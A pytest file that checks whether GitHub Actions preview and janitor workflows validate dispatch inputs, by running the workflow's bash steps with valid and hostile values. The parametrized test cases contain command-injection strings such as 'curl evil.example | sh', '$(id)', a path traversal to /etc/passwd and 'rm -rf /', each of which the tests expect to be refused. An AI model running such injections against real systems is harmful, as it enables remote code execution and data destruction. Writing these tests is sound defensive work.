"""Previews that run the application: dispatch inputs are validated before any job uses them.

The validation step is run for real with bash, from environment variables
only (as GitHub runs it), with hostile and valid requests.
"""

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from harness.synth import REPO_ROOT
from tests.workflows.workflow_files import WORKFLOWS_DIR, load

PREVIEW = load(WORKFLOWS_DIR / "preview.yml")
BASH = shutil.which("bash")
needs_bash = pytest.mark.skipif(BASH is None, reason="bash is not installed")
VALID = {
    "ACTION": "deploy",
    "APP_PR": "42",
    "APP_REF": "0123456789abcdef0123456789abcdef01234567",
    "APP_RELEASE": "preview-pr-42-0123456",
    "APP_REPOSITORY": "acme/sgcarstrends",
}


def _validate_step() -> dict:
    [step] = [s for s in PREVIEW["jobs"]["app-request"]["steps"] if s.get("id") == "request"]
    return step


def _run(tmp_path: Path, **overrides: str) -> tuple[subprocess.CompletedProcess, dict[str, str]]:
    script = tmp_path / "step.sh"
    script.write_text(_validate_step()["run"])
    output = tmp_path / "github-output"
    output.write_text("")
    python_dir = str(Path(sys.executable).parent)
    env = {
        "PATH": f"{python_dir}:{os.environ['PATH']}",
        "GITHUB_OUTPUT": str(output),
        **{**VALID, **overrides},
    }
    result = subprocess.run(
        [BASH, "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        cwd=REPO_ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines() if "=" in line)
    return result, outputs


def test_the_workflow_accepts_both_dispatches():
    on = PREVIEW["on"]
    assert on["repository_dispatch"] == {"types": ["app-preview"]}
    inputs = on["workflow_dispatch"]["inputs"]
    assert set(inputs) == {"action", "app-pr", "app-ref", "app-release", "app-repository"}
    for job_id in ("deploy", "destroy"):
        assert "github.event_name == 'pull_request'" in PREVIEW["jobs"][job_id]["if"]


def test_inputs_reach_the_script_through_the_environment_only():
    step = _validate_step()
    assert "${{" not in step["run"]
    assert set(VALID) <= set(step["env"])


@needs_bash
def test_a_valid_request_deploys_pr_n_with_its_urls(tmp_path):
    result, outputs = _run(tmp_path)
    assert result.returncode == 0, result.stderr
    assert outputs == {
        "web-url": "https://pr-42.sgcarstrends.com",
        "api-url": "https://api-pr-42.sgcarstrends.com",
        "command": "deploy",
        "stage": "pr-42",
        "app-pr": "42",
        "app-ref": VALID["APP_REF"],
        "app-release": VALID["APP_RELEASE"],
        "app-repository": "acme/sgcarstrends",
    }


@needs_bash
def test_destroy_needs_no_release(tmp_path):
    result, outputs = _run(tmp_path, ACTION="destroy", APP_RELEASE="")
    assert result.returncode == 0, result.stderr
    assert outputs["command"] == "destroy" and outputs["app-release"] == ""


@needs_bash
@pytest.mark.parametrize(
    "overrides, message",
    [
        ({"APP_PR": "42; curl evil.example | sh"}, "is not a pull request number"),
        ({"APP_PR": "$(id)"}, "is not a pull request number"),
        ({"APP_PR": "0"}, "is not a pull request number"),
        ({"APP_REF": "main\ncommand=destroy"}, "is not a commit SHA or ref name"),
        ({"APP_REF": "../../etc/passwd"}, "is not a commit SHA or ref name"),
        ({"APP_REPOSITORY": "acme/app --repo other/x"}, "is not owner/name"),
        ({"APP_RELEASE": ""}, "is not a release tag"),
        ({"APP_RELEASE": "v1 `rm -rf /`"}, "is not a release tag"),
        ({"ACTION": "apply"}, "is not deploy or destroy"),
    ],
)
def test_hostile_or_broken_requests_are_refused_before_anything_runs(tmp_path, overrides, message):
    result, outputs = _run(tmp_path, **overrides)
    assert result.returncode == 2, result.stdout + result.stderr
    assert message in result.stderr
    assert "stage" not in outputs and "command" not in outputs


def test_app_jobs_use_validated_outputs_in_the_preview_environment():
    jobs = PREVIEW["jobs"]
    deploy, destroy = jobs["app-deploy"], jobs["app-destroy"]
    for job, command in ((deploy, "deploy"), (destroy, "destroy")):
        assert job["needs"] == "app-request"
        assert job["with"]["stage"] == "${{ needs.app-request.outputs.stage }}"
        assert job["with"]["command"] == command and job["with"]["environment"] == "preview"
        assert job["concurrency"]["group"] == "deploy-${{ needs.app-request.outputs.stage }}"
    assert deploy["with"]["app-release"] == "${{ needs.app-request.outputs.app-release }}"
    comment = jobs["app-comment"]
    assert comment["needs"] == ["app-request", "app-deploy"] and comment["environment"] == "preview"
    [step] = comment["steps"]
    assert "${{" not in step["run"] and 'gh pr comment "$APP_PR" --repo "$APP_REPOSITORY"' in step["run"]


JANITOR = load(WORKFLOWS_DIR / "janitor.yml")


def test_the_janitor_runs_nightly_in_the_preview_environment_without_application_secrets():
    from modules.app.secrets import SECRET_NAMES

    assert JANITOR["on"]["schedule"] and "workflow_dispatch" in JANITOR["on"]
    job = JANITOR["jobs"]["janitor"]
    assert job["environment"] == "preview" and job["permissions"]["pull-requests"] == "read"
    assert not [name for name in SECRET_NAMES if f"secrets.{name} " in str(JANITOR)]
    [step] = [s for s in job["steps"] if s.get("name") == "Janitor"]
    assert "${{" not in step["run"] and '.venv/bin/sgct janitor "${args[@]}"' in step["run"]


@needs_bash
@pytest.mark.parametrize(
    "env, code, expected",
    [
        ({"MAX_AGE_DAYS": "7", "DRY_RUN": "true"}, 0, "--max-age-days 7 --repository acme/infra --dry-run"),
        (
            {"MAX_AGE_DAYS": "3", "DRY_RUN": "false", "APP_REPOSITORY": "acme/app"},
            0,
            "--max-age-days 3 --repository acme/infra --repository acme/app",
        ),
        ({"MAX_AGE_DAYS": "7; rm -rf /", "DRY_RUN": "false"}, 2, "is not 1-9999"),
        ({"MAX_AGE_DAYS": "7", "DRY_RUN": "false", "APP_REPOSITORY": "x y"}, 2, "not owner/name"),
    ],
)
def test_the_janitor_step_validates_its_inputs(tmp_path, env, code, expected):
    [step] = [s for s in JANITOR["jobs"]["janitor"]["steps"] if s.get("name") == "Janitor"]
    fake = tmp_path / ".venv" / "bin" / "sgct"
    fake.parent.mkdir(parents=True)
    fake.write_text('#!/usr/bin/env bash\necho "sgct $*"\n')
    fake.chmod(0o755)
    script = tmp_path / "step.sh"
    script.write_text(step["run"])
    result = subprocess.run(
        [BASH, "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        cwd=tmp_path,
        env={"PATH": os.environ["PATH"], "GITHUB_REPOSITORY": "acme/infra", "APP_REPOSITORY": "", **env},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == code, result.stderr
    assert expected in (result.stdout + result.stderr)
